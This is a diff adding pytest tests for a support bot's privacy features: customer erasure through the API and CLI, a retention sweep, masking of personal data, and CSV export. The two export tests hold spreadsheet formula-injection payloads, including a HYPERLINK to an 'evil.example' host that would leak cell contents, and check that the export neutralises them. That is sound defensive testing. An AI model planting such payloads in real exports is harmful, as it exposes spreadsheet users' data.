@@ -1,0 +1,199 @@
+"""Erasing a customer (API and CLI), the retention sweep, masking, and formula-safe CSV, on SQLite and
+PostgreSQL: what the customer wrote and who they are leave every table; the counts stay."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+import yaml
+from sqlalchemy import inspect, text
+from typer.testing import CliRunner
+
+from bot.config import parse_config
+from bot.settings import Settings
+from csatbot.cli import app as cli
+from csatbot.runtime import Runtime
+from storage.survey_rows import csv_text
+
+from ..conftest import CONFIG, api_headers, conversation_of, customer_reads, customer_says, served
+
+ANN_WORDS = ("ann.lee@example.com", "Ann Lee", "courier stole", "5 Main Street", "Hi Ann")
+
+
+def write_config(folder: Path, **top: Any) -> Path:
+    data = yaml.safe_load(CONFIG.read_text(encoding="utf-8"))
+    data["triggers"][0]["delay"] = "0s"
+    data["surveying"]["quiet_hours"] = None
+    data["teams"]["support"]["webhook_url"] = "http://127.0.0.1:9/tickets"  # copies in the outbox
+    data.update(top)
+    path = folder / "config.yaml"
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+async def app(database_url: str, tmp_path: Path) -> AsyncIterator[tuple[httpx.AsyncClient, Runtime]]:
+    runtime = Runtime(write_config(tmp_path), database_url, tick_seconds=0.05)
+    async with served(runtime) as http:
+        yield http, runtime
+
+
+async def unhappy_customer(
+    http: httpx.AsyncClient, user: str, name: str, comment: str, street: str = "5 Main Street"
+) -> int:
+    """``user`` writes, an agent replies and resolves, the customer rates 1 and comments: a ticket."""
+    await customer_says(http, user, text=f"I am {name}, my parcel never came to {street}", name=name)
+    conversation = await conversation_of(http, user)
+    await http.post(
+        f"/api/conversations/{conversation}/reply", json={"text": f"Hi {name.split()[0]}, sorry!"}
+    )
+    resolved = (
+        await http.post(f"/api/conversations/{conversation}/resolve", json={"send_survey_now": True})
+    ).json()
+    survey = resolved["survey_id"]
+    for _ in range(200):
+        chat = (await customer_reads(http, user)).json()["messages"]
+        if any((m.get("prompt") or {}).get("step") == "rating" for m in chat):
+            break
+        await asyncio.sleep(0.05)
+    for step, value in (("rating", "1"), ("reason", "slow")):
+        await customer_says(http, user, choice={"survey": survey, "step": step, "value": value})
+    await customer_says(http, user, text=comment)
+    detail = (await http.get(f"/api/conversations/{conversation}")).json()
+    assert detail["ticket"] is not None and detail["survey"]["status"] == "completed"
+    return int(detail["customer"]["id"])
+
+
+def everything(runtime: Runtime) -> str:
+    """Every row of every table, as text."""
+    with runtime.database.reader.connect() as conn:
+        tables = inspect(conn).get_table_names()
+        return "\n".join(f"{t}: {list(conn.execute(text(f'select * from {t}')))}" for t in sorted(tables))
+
+
+async def totals(http: httpx.AsyncClient) -> dict[str, Any]:
+    report = (await http.get("/api/reports")).json()["total"]
+    return {k: report[k] for k in ("sent", "responded", "csat_n", "dsat")}
+
+
+async def test_erasing_a_customer_removes_their_words_and_identity_and_keeps_the_counts(
+    app: tuple[httpx.AsyncClient, Runtime],
+) -> None:
+    http, runtime = app
+    ann = await unhappy_customer(http, "ann.lee@example.com", "Ann Lee", "the courier stole it")
+    await unhappy_customer(http, "bob", "Bob Ray", "never again", street="9 Side Road")
+    before, dump = await totals(http), everything(runtime)
+    assert all(word in dump for word in ANN_WORDS)
+    tickets_before = len((await http.get("/api/tickets")).json())
+
+    agent = api_headers(runtime.database, "carol", "agent")
+    assert (await http.delete(f"/api/customers/{ann}", headers=agent)).status_code == 403
+    erased = await http.delete(f"/api/customers/{ann}")
+    assert erased.status_code == 200, erased.text
+    counts = erased.json()["erased"]
+    assert counts["identities"] == 1 and counts["messages"] >= 6 and counts["tickets"] == 1
+    assert counts["outbox"] >= 1 and counts["answers"] == 3
+
+    dump = everything(runtime)
+    assert [line[:300] for line in dump.splitlines() if any(w in line for w in ANN_WORDS)] == []
+    assert "Bob Ray" in dump and "never again" in dump  # nobody else's data moved
+    assert await totals(http) == before  # reports keep their numbers
+    assert len((await http.get("/api/tickets")).json()) == tickets_before
+    with runtime.database.reader.connect() as conn:
+        audit = [tuple(r) for r in conn.execute(text("select actor, action, subject from audit_event"))]
+    assert audit == [("support (token)", "customer.erased", f"customer {ann}")]
+    # The customer writing again is a new customer with none of the old history.
+    assert (await customer_reads(http, "ann.lee@example.com")).json()["messages"] == []
+    assert (await http.delete("/api/customers/999999")).status_code == 404
+    assert (await http.delete(f"/api/customers/{2**31}")).status_code == 422
+
+
+def test_the_cli_erases_and_records_who(tmp_path: Path) -> None:
+    db = tmp_path / "cli.db"
+    runtime = Runtime(write_config(tmp_path), f"sqlite:///{db}", tick_seconds=0.05)
+
+    async def prepare() -> int:
+        async with served(runtime) as http:
+            return await unhappy_customer(http, "ann.lee@example.com", "Ann Lee", "the courier stole it")
+
+    ann = asyncio.run(prepare())
+    asked = CliRunner().invoke(cli, ["customers", "erase", str(ann), "--db", str(db)], input="n\n")
+    assert (
+        asked.exit_code == 1 and "Erase customer" in asked.output and "5 Main Street" in everything(runtime)
+    )
+    done = CliRunner().invoke(cli, ["customers", "erase", str(ann), "--db", str(db), "--yes"])
+    assert done.exit_code == 0, done.output
+    assert f"customer {ann} erased" in done.output
+    dump = everything(runtime)
+    assert [word for word in ANN_WORDS if word in dump] == []
+    assert "(cli)" in dump and "customer.erased" in dump
+    missing = CliRunner().invoke(cli, ["customers", "erase", "424242", "--db", str(db), "--yes"])
+    assert missing.exit_code == 1 and "no customer with id 424242" in missing.output
+    runtime.database.dispose()
+
+
+def configured(**top: Any) -> Settings:
+    data = yaml.safe_load(CONFIG.read_text(encoding="utf-8"))
+    data["teams"]["support"]["webhook_url"] = "http://127.0.0.1:9/tickets"
+    data.update(top)
+    return Settings.from_config(parse_config(yaml.safe_dump(data, allow_unicode=True)))
+
+
+async def test_the_daily_sweep_forgets_old_words_and_keeps_scores(make_harness: Any) -> None:
+    h = make_harness(configured(retention={"transcripts": "2d", "comments": "3d"}))
+    first = await h.say("ann", "an old complaint about 5 Main Street")
+    await h.service.resolve(first.conversation_id, "bob", send_now=True)
+    survey = h.rows("select id from survey")[0][0]
+    await h.tap("ann", survey, "rating", "2")
+    await h.tap("ann", survey, "reason", "slow")
+    await h.say("ann", "an old comment")
+    assert await h.service.schedule_retention() is True
+    assert await h.service.schedule_retention() is False  # one pending sweep, however often asked
+    assert await h.tick(seconds=1) == ["retention sweep: nothing was due"]
+    h.clock.advance(timedelta(days=2, hours=1))
+    await h.say("bob", "a fresh message")
+    outcome = await h.tick(days=1)  # tomorrow's sweep: messages are 3 days old, comments too
+    [swept] = [o for o in outcome if o.startswith("retention sweep")]
+    assert swept.startswith("retention sweep: messages ") and "answers 1" in swept
+    texts = [r[0] for r in h.rows("select text from message order by id")]
+    assert "an old complaint about 5 Main Street" not in texts and "a fresh message" in texts
+    assert h.rows("select text from answer where text is not null") == [("[erased]",)]
+    assert h.rows("select score from answer where score is not null") == [(2,)]
+    assert h.rows("select csat from survey where csat is not null") == [(2,)]
+    assert "old comment" not in str(h.rows("select state from survey"))
+    assert str(h.rows("select transcript from ticket")).count("Main Street") == 1  # the ticket is still open
+    assert h.rows("select due_at > :now from timer where kind = 'retention'", now=h.clock.now()) == [(True,)]
+
+
+async def test_masking_hides_emails_phones_and_cards_in_what_is_kept_and_sent(make_harness: Any) -> None:
+    h = make_harness(configured(masking=["email", "phone", "card"]))
+    result = await h.say("ann", "mail ann.lee@example.com or call 13800138000, card 4111 1111 1111 1111")
+    await h.service.escalate(result.conversation_id, "bob", "call her back")
+    stored = h.rows("select text from message")[0][0]
+    assert stored == "mail [email] or call [phone], card [card]"
+    dump = str(h.rows("select * from ticket")) + str(h.rows("select body from outbox"))
+    assert "[email]" in dump
+    for secret in ("ann.lee@example.com", "13800138000", "4111 1111 1111 1111"):
+        assert secret not in dump
+
+
+def test_export_cells_that_would_start_a_formula_are_neutralised() -> None:
+    rows = [("s1", '=HYPERLINK("http://evil","x")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok", 5, -5)]
+    assert csv_text(rows) == (
+        's1,"\'=HYPERLINK(""http://evil"",""x"")",\'+1,\'-2+3,\'@SUM(A1),\'\tx,"\'\rx",ok,5,-5\r\n'
+    )
+
+
+async def test_the_api_export_neutralises_a_formula_in_a_comment(
+    app: tuple[httpx.AsyncClient, Runtime],
+) -> None:
+    http, _ = app
+    await unhappy_customer(http, "eve", "Eve", '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    export = (await http.get("/api/reports/export.csv")).content.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in export and ',"=HYPERLINK' not in export
